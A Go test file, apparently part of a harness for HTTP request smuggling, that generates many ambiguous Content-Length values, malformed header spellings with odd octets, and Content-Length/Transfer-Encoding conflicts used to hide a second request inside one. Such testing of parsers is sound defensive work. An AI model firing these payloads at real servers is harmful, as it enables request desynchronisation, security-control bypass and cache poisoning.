//go:build smuggling

package smuggling_test

import (
	"fmt"
	"strconv"
	"strings"
)

// lengthValues are ways to write n that one server or another reads as n, as 0,
// or as something else.
func lengthValues(n int) []string {
	s := strconv.Itoa(n)
	return []string{
		"+" + s, "-" + s, "-0", "-1", "+0", "0", "00", "0" + s, strings.Repeat("0", 30) + s, " " + s, s + " ", "\t" + s, s + "\t", s + "\v", "\v" + s,
		"0x" + strconv.FormatInt(int64(n), 16), "0X0", "0o" + strconv.FormatInt(int64(n), 8), "0b0", strconv.FormatInt(int64(n), 16) + "h", s + ".0", s + "e0", s + ",",
		"," + s, s + "," + s, s + ", " + s, s + ",0", "0," + s, s + ";" + s, s + " " + s, s[:1] + " " + s[1:], s[:1] + "_" + s[1:], s[:1] + "," + s[1:], s[:1] + "\x00" + s[1:],
		s + "\x00", s + "x", "x" + s, "\"" + s + "\"", "(" + s + ")", "", " ", "NaN", "chunked", "4294967296", strconv.Itoa(n + 4294967296), "18446744073709551616",
		strconv.FormatUint(uint64(n)-1-uint64(n), 10), "9223372036854775807", "9223372036854775808", strings.Repeat("9", 40), "\u0661\u0660", "\uff11", s + "\r", s + "\n",
		"\r\n " + s, s[:1] + "\r\n " + s[1:], s + "\r\n 0",
	}
}

func lengths() []mutation {
	var all []mutation
	const kinds = 4
	for i := range lengthValues(10) {
		for kind := range kinds {
			all = append(all, attack(fmt.Sprintf("%d of value %q", kind, lengthValues(100)[i]), func(p *place) string {
				body := p.hidden()
				value := lengthValues(len(body))[i]
				switch kind {
				case 0: // alone
					return p.main("POST", "Content-Length: "+value+"\r\n", body)
				case 1:
					return p.main("POST", length("")+"Content-Length: "+value+"\r\n", body)
				case 2:
					return p.main("POST", "Content-Length: "+value+"\r\n"+length(body), body)
				default:
					return p.main("GET", "Content-Length: "+value+"\r\nTransfer-Encoding: chunked\r\n", lastChunk+body)
				}
			}))
		}
	}
	for _, line := range []string{
		"Content-Length : N", "Content-Length\t: N", " Content-Length: N", "Content_Length: N", "Content.Length: N", "ContentLength: N", "Content Length: N", "content-length: N",
		"Content-Length:\r\n N", "Content-Length\r\n : N", "Content-Length: N\r\nContent-Length: N", "Content-Length: N\r\ncontent-length: 0", "X: y\nContent-Length: N",
		"X: y\rContent-Length: N", "Content-Length: N\r\nContent_Length: 0", "Connection: Content-Length\r\nContent-Length: N", "Content-Length: N\r\nConnection: close, content-length",
		"Content-Length\x00: N", "\x00Content-Length: N", "Content-Length;: N", "Content-Length N", "Content-Length= N", "HTTP_CONTENT_LENGTH: N", "Content-Lengt\xc4\xa7: N",
	} {
		for _, method := range []string{"GET", "POST", "HEAD", "DELETE", "OPTIONS"} {
			all = append(all, attack(fmt.Sprintf("%s with %q", method, line), func(p *place) string {
				body := p.hidden()
				return p.main(method, strings.ReplaceAll(line, "N", strconv.Itoa(len(body)))+"\r\n", body)
			}))
		}
	}
	return all
}

// oddOctets are those that are no letters and no digits, and a few of the rest.
func oddOctets() []string {
	var all []string
	for octet := range 256 {
		if octet < '0' || octet > '9' && octet < 'A' || octet > 'Z' && octet < 'a' || octet > 'z' && octet < 0x82 || octet%16 == 0 || octet == 0xad || octet == 0xff || octet == 'x' || octet == '9' {
			all = append(all, string([]byte{byte(octet)}))
		}
	}
	return all
}

func lengthOctets() []mutation {
	var all []mutation
	for octet, b := range oddOctets() {
		for i, line := range []string{b + "Content-Length: N", "Content" + b + "Length: N", "Content-Length" + b + ": N", "Content-Length:" + b + "N", "Content-Length: N" + b} {
			all = append(all, attack(fmt.Sprintf("%q", line), func(p *place) string {
				body, coding := p.hidden(), ""
				if (octet+i)%2 == 0 {
					body, coding = lastChunk+body, "Transfer-Encoding: chunked\r\n"
				}
				return p.main("POST", strings.Replace(line, "N", strconv.Itoa(len(body)), 1)+"\r\n"+coding, body)
			}))
		}
	}
	return all
}
